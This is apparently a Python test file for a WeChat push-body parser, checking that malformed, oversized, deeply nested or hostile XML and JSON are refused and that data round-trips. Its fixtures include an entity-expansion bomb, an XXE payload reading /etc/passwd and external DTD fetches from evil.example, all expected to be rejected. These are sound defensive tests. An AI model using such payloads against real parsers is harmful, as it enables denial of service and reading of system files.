"""Bodies of pushes are read without believing their sender."""

import string
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from jishi.ports.wechat.official import BadPush
from jishi.ports.wechat.official.trees import (
    BYTES_MAX,
    DEPTH_MAX,
    PARTS_MAX,
    read,
    text_at,
    write_json,
    write_xml,
)

CONTROLS = [chr(code) for code in range(32) if chr(code) not in "\t\n\r"]
SPEAKABLE = st.text(
    st.characters(codec="utf-8", exclude_characters=[*CONTROLS, "\ufffe", "\uffff"])
)
NAMES = st.text(string.ascii_letters, min_size=1, max_size=8)
LEAVES = SPEAKABLE.filter(bool)
TREES: Any = st.recursive(
    st.dictionaries(NAMES, LEAVES, min_size=1, max_size=4),
    lambda below: st.dictionaries(NAMES, LEAVES | below, min_size=1, max_size=4),
    max_leaves=12,
)
BOMB = b"""<!DOCTYPE xml [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><xml><Content>&c;</Content></xml>"""
OUTSIDE = b"""<!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<xml><Content>&x;</Content></xml>"""
PARAMETER = (
    b"""<!DOCTYPE xml [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><xml><a>1</a></xml>"""
)


def nested(depth: int) -> bytes:
    return b"<xml>" + b"<a>" * depth + b"1" + b"</a>" * depth + b"</xml>"


@pytest.mark.parametrize(
    "body",
    [
        BOMB,
        OUTSIDE,
        PARAMETER,
        b'<!DOCTYPE xml SYSTEM "http://evil.example/x.dtd"><xml><a>1</a></xml>',
        b"<!DOCTYPE xml><xml><a>1</a></xml>",
        b"<xml><a>&unknown;</a></xml>",
        nested(DEPTH_MAX),
        nested(8_000),
        b"<xml>" + b"<a>1</a>" * PARTS_MAX + b"</xml>",
        b'{"a":' * 20 + b"1" + b"}" * 20,
        b'{"a":' * 9_000,
        b'{"a":' + b"[" * 50_000,
        b"<xml><a>1</a>",
        b"<xml></xml>",
        b"<xml>text</xml>",
        b"",
        b"\xff\xfe<\x00x\x00m\x00l\x00>\x00",
        "<xml><a>字</a></xml>".encode("utf-16"),
        b"<xml><a>\x00</a></xml>",
        b"[1]",
        b"{",
        b'{"a": 1' + b"0" * 6_000 + b"}",
    ],
)
def test_a_body_that_is_none_of_wechats_is_refused(body: bytes) -> None:
    with pytest.raises(BadPush, match="malformed"):
        read(body)


def test_a_body_that_is_too_large_is_not_even_looked_at() -> None:
    with pytest.raises(BadPush, match="too_large"):
        read(b"<xml><a>" + b"x" * BYTES_MAX + b"</a></xml>")


def test_the_deepest_and_the_widest_that_may_be_are_read() -> None:
    assert read(nested(DEPTH_MAX - 1))
    assert len(str(read(b"<xml>" + b"<a>1</a>" * (PARTS_MAX - 1) + b"</xml>"))) > PARTS_MAX


def test_whatever_an_xml_declares_its_letters_are_utf_8() -> None:
    body = '<?xml version="1.0" encoding="GBK"?><xml><a>字</a></xml>'.encode()
    assert read(body) == {"a": "字"}


@given(st.binary(max_size=400) | st.text().map(str.encode))
def test_reading_anything_gives_a_tree_or_refuses(body: bytes) -> None:
    try:
        tree = read(body)
    except BadPush:
        return
    assert isinstance(tree, dict)


@given(st.lists(st.sampled_from(["<xml>", "</xml>", "<a>", "</a>", "<![CDATA[", "]]>", "&amp;",
    "&x;", "<!DOCTYPE a [", "<!ENTITY x 'y'>", "]>", "text", "<?x y?>", "<!-- -->"])))  # fmt: skip
def test_reading_broken_xml_gives_a_tree_or_refuses(parts: list[str]) -> None:
    try:
        tree = read("".join(parts).encode())
    except BadPush:
        return
    assert "y" not in str(tree)


@given(TREES)
def test_a_tree_survives_the_way_through_xml(tree: dict[str, Any]) -> None:
    assert read(write_xml(tree).encode()) == tree


@given(st.dictionaries(NAMES, st.text(), min_size=1))
def test_a_tree_survives_the_way_through_json(tree: dict[str, Any]) -> None:
    assert read(write_json(tree).encode()) == tree


@given(st.text(st.characters(exclude_categories=[])))
def test_what_xml_cannot_carry_becomes_the_replacement_character(text: str) -> None:
    (back,) = read(write_xml({"a": text or "-"}).encode()).values()
    assert isinstance(back, str)
    assert len(back) == len(text or "-")
    assert all(mine in {theirs, "\ufffd"} for mine, theirs in zip(back, text or "-", strict=True))


def test_json_leaves_become_texts() -> None:
    body = b'{"a": 1, "b": true, "c": null, "d": 1.5, " e": "x", "f": [1, {"g": 2}]}'
    tree = read(body)
    assert tree == {"a": "1", "b": "true", "c": "", "d": "1.5", "e": "x", "f": ["1", {"g": "2"}]}
    assert text_at(tree, "f") == text_at(tree, "nowhere") == ""


def test_several_elements_of_one_name_become_a_list_and_numbers_stand_bare() -> None:
    assert read(b"<xml><a>1</a><a>2</a><a>3</a></xml>") == {"a": ["1", "2", "3"]}
    written = write_xml({"n": 2, "l": {"item": [{"x": "1"}, {"x": "2"}]}})
    assert written == (
        "<xml><n>2</n><l><item><x><![CDATA[1]]></x></item>"
        "<item><x><![CDATA[2]]></x></item></l></xml>"
    )
